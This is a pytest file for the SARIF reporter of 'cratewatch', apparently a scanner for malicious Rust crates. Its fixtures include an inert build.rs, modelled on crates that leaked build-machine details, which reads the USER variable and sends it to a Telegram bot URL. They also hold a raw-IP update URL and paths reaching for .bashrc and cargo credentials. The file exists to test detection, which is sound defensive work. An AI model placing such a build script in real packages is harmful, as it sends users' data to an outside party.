"""SARIF output of ``cratewatch scan``: golden files, the official schema, GitHub's conventions.

Golden files live in ``tests/scan/golden``; as for the reporters, set
``CRATEWATCH_UPDATE_GOLDEN=1`` to (re)write them instead of comparing, and review the diff.
"""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest

import cratewatch
from cratewatch.model.scan import UnsafeCounts
from cratewatch.reporters.sarif import FINGERPRINT_KEY, SARIF_SCHEMA_URI
from cratewatch.reporters.scan_sarif import VERDICT_RULES, render_scan_sarif, scan_to_sarif
from cratewatch.scan.analyze import Context, Evidence
from cratewatch.scan.crate import CrateScan, scan_path
from cratewatch.scan.rules import load_rules
from tests.conftest import check_golden
from tests.reporters.test_render_sarif import validate

GOLDEN_DIR = Path(__file__).parent / "golden"

TELEGRAM_LINE = (
    'let url = format!("https://api.telegram.org/bot000000:PLACEHOLDER/sendMessage?text={user}");'
)
CONNECT_LINE = 'let _ = TcpStream::connect("192.0.2.1:443");'
ENV_LINE = 'let user = std::env::var("USER").unwrap_or_default();'
RAW_IP_LINE = 'const FALLBACK: &str = "http://203.0.113.7/update";'

# A .crate archive: its build script sends the user name to a Telegram bot (inert).
EVIL = CrateScan(
    crate="evil",
    version="0.1.0",
    path="crates/evil-0.1.0.crate",
    verdict="malicious",
    reasons=("tactics combined: exfiltration",),
    risk_score=57.0,
    capabilities=("environment", "network"),
    unsafe=UnsafeCounts(),
    findings=(
        Evidence("threat-telegram-bot-api", "build.rs", 5, TELEGRAM_LINE, Context.BUILD),
        Evidence("capability-network", "build.rs", 6, CONNECT_LINE, Context.BUILD),
        Evidence("capability-environment", "build.rs", 4, ENV_LINE, Context.BUILD),
        Evidence("threat-telegram-bot-api", "tests/it.rs", 3, TELEGRAM_LINE, Context.TEST),
    ),
    problems=(
        "unsafe path '../../.bashrc' (absolute or leaving the crate)",
        "symbolic link 'evil-0.1.0/cred' -> '/home/user/.cargo/credentials' not followed",
    ),
)

# A vendored crate directory with a raw IP URL twice (one line found twice, once more
# elsewhere in the same file).
HELPER = CrateScan(
    crate="helper",
    version="1.2.0",
    path="vendor/helper",
    verdict="suspicious",
    reasons=("exfiltration: threat-raw-ip-url (src/lib.rs)",),
    risk_score=6.0,
    capabilities=(),
    unsafe=UnsafeCounts(blocks=2),
    findings=(
        Evidence("threat-raw-ip-url", "src/lib.rs", 12, RAW_IP_LINE, Context.LIBRARY),
        Evidence("threat-raw-ip-url", "src/lib.rs", 12, RAW_IP_LINE, Context.LIBRARY),
        Evidence("threat-raw-ip-url", "src/lib.rs", 40, RAW_IP_LINE, Context.LIBRARY),
    ),
    problems=(),
)

CLEAN = CrateScan(
    crate="semver",
    version="1.0.20",
    path="vendor/semver",
    verdict="clean",
    reasons=(),
    risk_score=0.0,
    capabilities=("environment",),
    unsafe=UnsafeCounts(),
    findings=(
        Evidence(
            "capability-environment",
            "build.rs",
            8,
            'let rustc = env::var_os("RUSTC")?;',
            Context.BUILD,
        ),
    ),
    problems=(),
)

SAMPLE = [HELPER, CLEAN, EVIL]

# Modelled on the 2023 crates that sent build machines' details to a Telegram bot; inert.
BUILD_RS = """use std::net::TcpStream;

fn main() {
    let user = std::env::var("USER").unwrap_or_default();
    let url = format!("https://api.telegram.org/bot000000:PLACEHOLDER/sendMessage?text={user}");
    let _ = TcpStream::connect("192.0.2.1:443");
    let _ = url;
}
"""


@pytest.fixture(autouse=True)
def fixed_tool_version(monkeypatch: pytest.MonkeyPatch) -> None:
    """Golden files must not change with each release."""
    monkeypatch.setattr(cratewatch, "__version__", "1.2.3")


def run_of(results: list[CrateScan]) -> dict[str, Any]:
    log = scan_to_sarif(results)
    validate(log)
    run: dict[str, Any] = log["runs"][0]
    return run


def results_of(results: list[CrateScan], rule_id: str) -> list[dict[str, Any]]:
    return [r for r in run_of(results)["results"] if r["ruleId"] == rule_id]


def location(result: dict[str, Any]) -> dict[str, Any]:
    physical: dict[str, Any] = result["locations"][0]["physicalLocation"]
    return physical


def fingerprint(result: dict[str, Any]) -> str:
    value: str = result["partialFingerprints"][FINGERPRINT_KEY]
    return value


def make_crate(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    return root


def test_golden() -> None:
    check_golden(GOLDEN_DIR / "scan.sarif", render_scan_sarif(SAMPLE))


def test_golden_empty() -> None:
    check_golden(GOLDEN_DIR / "scan-empty.sarif", render_scan_sarif([]))


def test_text_is_the_log_as_json() -> None:
    text = render_scan_sarif(SAMPLE)
    assert text.endswith("}\n")
    assert json.loads(text) == scan_to_sarif(SAMPLE)


@pytest.mark.parametrize("results", [SAMPLE, [], [CLEAN]], ids=["sample", "empty", "clean"])
def test_valid_against_official_schema(results: list[CrateScan]) -> None:
    log = json.loads(render_scan_sarif(results))
    validate(log)
    assert log["$schema"] == SARIF_SCHEMA_URI
    assert log["version"] == "2.1.0"
    assert len(log["runs"]) == 1


def test_driver() -> None:
    driver = run_of(SAMPLE)["tool"]["driver"]
    assert (driver["name"], driver["version"]) == ("cratewatch", "1.2.3")


def test_rules_are_those_with_results_and_the_verdicts_given() -> None:
    rules = run_of(SAMPLE)["tool"]["driver"]["rules"]
    ids = [rule["id"] for rule in rules]
    assert ids == [
        "capability-environment",
        "capability-network",
        "threat-raw-ip-url",
        "threat-telegram-bot-api",
        "verdict-malicious",
        "verdict-suspicious",
    ]
    assert run_of([CLEAN])["tool"]["driver"]["rules"][0]["id"] == "capability-environment"
    assert [r["id"] for r in run_of([HELPER])["tool"]["driver"]["rules"]] == [
        "threat-raw-ip-url",
        "verdict-suspicious",
    ]


def test_results_point_at_their_rules() -> None:
    run = run_of(SAMPLE)
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        # never louder than the rule; quieter where the crate's verdict or context says so
        order = ["note", "warning", "error"]
        default = rules[result["ruleIndex"]]["defaultConfiguration"]["level"]
        assert order.index(result["level"]) <= order.index(default)


EXPECTED = {
    "critical": ("error", "9.5"),
    "high": ("error", "8.0"),
    "medium": ("warning", "5.5"),
    "low": ("note", "3.0"),
    "info": ("note", "1.0"),
}


def test_every_rule_maps_its_severity_to_level_and_security_severity() -> None:
    every = CLEAN._replace(
        findings=tuple(
            Evidence(rule.id, "src/lib.rs", i, f"line {i}", Context.LIBRARY)
            for i, rule in enumerate(load_rules(), 1)
        )
    )
    rules = {rule["id"]: rule for rule in run_of([every])["tool"]["driver"]["rules"]}
    assert len(rules) == len(load_rules())
    for rule in load_rules():
        entry = rules[rule.id]
        level, score = EXPECTED[rule.severity.label]
        assert entry["defaultConfiguration"]["level"] == level
        assert entry["properties"]["security-severity"] == score
        assert entry["properties"]["tags"] == [rule.kind.value, "security"]
        assert entry["shortDescription"]["text"] == rule.description
        assert "help" not in entry  # nothing that changes with each rule tweak
        assert entry["name"].lower() == rule.id.replace("-", "")


def test_verdict_rules() -> None:
    rules = {rule["id"]: rule for rule in run_of(SAMPLE)["tool"]["driver"]["rules"]}
    malicious, suspicious = rules["verdict-malicious"], rules["verdict-suspicious"]
    assert malicious["defaultConfiguration"]["level"] == "error"
    assert malicious["properties"]["security-severity"] == "9.5"
    assert suspicious["defaultConfiguration"]["level"] == "warning"
    assert suspicious["properties"]["security-severity"] == "5.5"
    assert malicious["properties"]["tags"] == ["verdict", "security"]
    assert set(VERDICT_RULES) == {"malicious", "incomplete", "suspicious"}


def test_evidence_result() -> None:
    (build, test) = results_of([EVIL], "threat-telegram-bot-api")
    assert build["level"] == "error"
    assert build["message"]["text"] == (
        "talks to the Telegram bot API, a common exfiltration channel (build) in evil 0.1.0"
    )
    assert location(build) == {
        "artifactLocation": {"uri": "crates/evil-0.1.0.crate/build.rs"},
        "region": {"startLine": 5, "snippet": {"text": TELEGRAM_LINE}},
    }
    assert build["locations"][0]["logicalLocations"] == [
        {"name": "evil", "fullyQualifiedName": "evil 0.1.0", "kind": "package"}
    ]
    assert build["properties"] == {
        "crate": "evil",
        "version": "0.1.0",
        "context": "build",
        "verdict": "malicious",
    }
    assert test["message"]["text"].endswith("(test) in evil 0.1.0")
    assert location(test)["artifactLocation"]["uri"] == "crates/evil-0.1.0.crate/tests/it.rs"


def test_one_result_per_distinct_evidence_and_verdict() -> None:
    run = run_of(SAMPLE)
    # evil: 4 pieces of evidence and its verdict; helper: 2 (one repeated) and its
    # verdict; semver: 1, no verdict result for a clean crate.
    assert len(run["results"]) == 5 + 3 + 1
    raw_ip = [r for r in run["results"] if r["ruleId"] == "threat-raw-ip-url"]
    assert [location(r)["region"]["startLine"] for r in raw_ip] == [12, 40]


def test_verdict_results_point_at_the_manifest() -> None:
    (malicious,) = results_of(SAMPLE, "verdict-malicious")
    assert malicious["level"] == "error"
    assert location(malicious) == {
        "artifactLocation": {"uri": "crates/evil-0.1.0.crate/Cargo.toml"},
        "region": {"startLine": 1},
    }
    assert malicious["message"]["text"] == (
        "evil 0.1.0 looks malicious: tactics combined: exfiltration (risk score 57; "
        "capabilities: environment, network)"
    )
    assert malicious["properties"]["risk_score"] == 57.0
    assert malicious["properties"]["reasons"] == ["tactics combined: exfiltration"]
    (suspicious,) = results_of(SAMPLE, "verdict-suspicious")
    assert suspicious["level"] == "warning"
    assert location(suspicious)["artifactLocation"]["uri"] == "vendor/helper/Cargo.toml"
    assert "capabilities: none" in suspicious["message"]["text"]
    assert not [r for r in run_of([CLEAN])["results"] if r["ruleId"].startswith("verdict-")]


def test_the_verdict_message_gives_every_reason() -> None:
    reasons = (
        "collection: threat-credential-store (src/a.rs)",
        "capability-network while building",
    )
    (verdict,) = results_of(
        [EVIL._replace(verdict="suspicious", reasons=reasons)], "verdict-suspicious"
    )
    assert "looks suspicious: " + "; ".join(reasons) + " (risk score" in verdict["message"]["text"]


@pytest.mark.parametrize(
    ("path", "file", "uri"),
    [
        ("vendor/helper", "src/lib.rs", "vendor/helper/src/lib.rs"),
        ("crates/evil-0.1.0.crate", "build.rs", "crates/evil-0.1.0.crate/build.rs"),
        ("evil-0.1.0.crate", "src/a/b.rs", "evil-0.1.0.crate/src/a/b.rs"),
        (".", "build.rs", "build.rs"),
        ("vendor/../vendor/x", "build.rs", "vendor/x/build.rs"),
        ("vendor\\x", "src/lib.rs", "vendor/x/src/lib.rs"),
        ("sub dir/x", "src/a b.rs", "sub%20dir/x/src/a%20b.rs"),
        ("/home/me/vendor/x", "build.rs", "file:///home/me/vendor/x/build.rs"),
        ("C:\\work\\x.crate", "build.rs", "file:///C:/work/x.crate/build.rs"),
    ],
)
def test_location_uris(path: str, file: str, uri: str) -> None:
    crate = CLEAN._replace(
        path=path, findings=(Evidence("capability-environment", file, 3, "x", Context.BUILD),)
    )
    (result,) = run_of([crate])["results"]
    assert location(result)["artifactLocation"]["uri"] == uri


def test_empty_snippet_has_no_snippet_region() -> None:
    crate = CLEAN._replace(
        findings=(Evidence("capability-environment", "build.rs", 3, "", Context.BUILD),)
    )
    (result,) = run_of([crate])["results"]
    assert location(result)["region"] == {"startLine": 3}


def _one(crate: CrateScan, evidence: Evidence) -> str:
    (result,) = run_of([crate._replace(verdict="clean", findings=(evidence,))])["results"]
    return fingerprint(result)


def test_fingerprint_stable_across_line_moves_versions_and_paths() -> None:
    e = EVIL.findings[0]
    base = _one(EVIL, e)
    assert base.endswith(":1")
    assert _one(EVIL, e._replace(line=50)) == base
    assert _one(EVIL, e._replace(snippet="  " + e.snippet.replace(" ", "   "))) == base
    assert _one(EVIL._replace(version="0.1.1", path="other/evil-0.1.1.crate"), e) == base
    assert _one(EVIL, e._replace(context=Context.TEST)) == base


@pytest.mark.parametrize(
    "changed",
    [
        EVIL.findings[0]._replace(snippet="let url = 1;"),
        EVIL.findings[0]._replace(file="src/lib.rs"),
        EVIL.findings[0]._replace(rule="threat-discord-webhook"),
    ],
    ids=["snippet", "file", "rule"],
)
def test_fingerprint_changes_with_crate_rule_file_snippet(changed: Evidence) -> None:
    base = _one(EVIL, EVIL.findings[0])
    assert _one(EVIL, changed) != base
    assert _one(EVIL._replace(crate="evil2"), EVIL.findings[0]) != base


def test_fingerprints_are_unique_in_a_run() -> None:
    older = EVIL._replace(version="0.1.0")
    newer = EVIL._replace(version="0.10.0", path="crates/evil-0.10.0.crate")
    run = run_of([newer, HELPER, older])
    fingerprints = [fingerprint(r) for r in run["results"]]
    assert len(set(fingerprints)) == len(fingerprints)
    # Same code in two versions: the older one (SemVer order, not text order) comes first.
    by_version = {
        r["properties"]["version"]: fingerprint(r)
        for r in run["results"]
        if r["ruleId"] == "verdict-malicious"
    }
    assert by_version["0.1.0"].endswith(":1") and by_version["0.10.0"].endswith(":2")
    assert by_version["0.1.0"].split(":")[0] == by_version["0.10.0"].split(":")[0]
    # One line found twice in a file: the occurrences are numbered in line order.
    raw_ip = [fingerprint(r) for r in run["results"] if r["ruleId"] == "threat-raw-ip-url"]
    assert [f.split(":")[1] for f in raw_ip] == ["1", "2"]


def test_output_does_not_depend_on_input_order() -> None:
    expected = render_scan_sarif(SAMPLE)
    shuffler = random.Random(7)
    for _ in range(5):
        crates = [
            c._replace(findings=tuple(shuffler.sample(c.findings, len(c.findings)))) for c in SAMPLE
        ]
        shuffler.shuffle(crates)
        assert render_scan_sarif(crates) == expected


def test_crates_sorted_by_name_then_semver() -> None:
    crates = [EVIL._replace(version=v, path=f"evil-{v}.crate") for v in ("0.10.0", "0.9.0", "x")]
    summary = run_of(crates)["properties"]["crates"]
    assert [c["version"] for c in summary] == ["0.9.0", "0.10.0", "x"]


def test_archive_problems_are_tool_notifications() -> None:
    (invocation,) = run_of(SAMPLE)["invocations"]
    assert invocation["executionSuccessful"] is True
    notifications = invocation["toolExecutionNotifications"]
    assert [n["message"]["text"] for n in notifications] == [
        f"evil 0.1.0: {problem}" for problem in EVIL.problems
    ]
    for n in notifications:
        assert n["level"] == "warning"
        assert n["locations"] == [
            {"physicalLocation": {"artifactLocation": {"uri": "crates/evil-0.1.0.crate"}}}
        ]
        assert n["properties"] == {"crate": "evil", "version": "0.1.0"}


def test_every_crate_is_in_the_run_properties() -> None:
    summary = run_of(SAMPLE)["properties"]["crates"]
    assert [(c["crate"], c["verdict"]) for c in summary] == [
        ("evil", "malicious"),
        ("helper", "suspicious"),
        ("semver", "clean"),
    ]
    assert summary[0] == {
        "crate": "evil",
        "version": "0.1.0",
        "path": "crates/evil-0.1.0.crate",
        "verdict": "malicious",
        "risk_score": 57.0,
        "capabilities": ["environment", "network"],
    }


def test_scan_of_a_crate_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    make_crate(
        tmp_path / "vendor" / "evil",
        {
            "Cargo.toml": '[package]\nname = "evil"\nversion = "0.1.0"\n',
            "build.rs": BUILD_RS,
            "src/lib.rs": "pub fn f() {}\n",
        },
    )
    monkeypatch.chdir(tmp_path)
    result = scan_path(Path("vendor/evil"))
    assert result.verdict == "malicious"

    log = json.loads(render_scan_sarif([result]))
    validate(log)
    results = log["runs"][0]["results"]
    (telegram,) = [r for r in results if r["ruleId"] == "threat-telegram-bot-api"]
    assert location(telegram) == {
        "artifactLocation": {"uri": "vendor/evil/build.rs"},
        "region": {"startLine": 5, "snippet": {"text": TELEGRAM_LINE}},
    }
    (verdict,) = [r for r in results if r["ruleId"] == "verdict-malicious"]
    assert location(verdict)["artifactLocation"]["uri"] == "vendor/evil/Cargo.toml"
    for r in results:
        assert (tmp_path / location(r)["artifactLocation"]["uri"]).is_file()

    # The same alerts after lines move: a line added at the top of the build script.
    (tmp_path / "vendor" / "evil" / "build.rs").write_text("// moved\n" + BUILD_RS)
    moved = json.loads(render_scan_sarif([scan_path(Path("vendor/evil"))]))["runs"][0]["results"]
    assert sorted(map(fingerprint, moved)) == sorted(map(fingerprint, results))
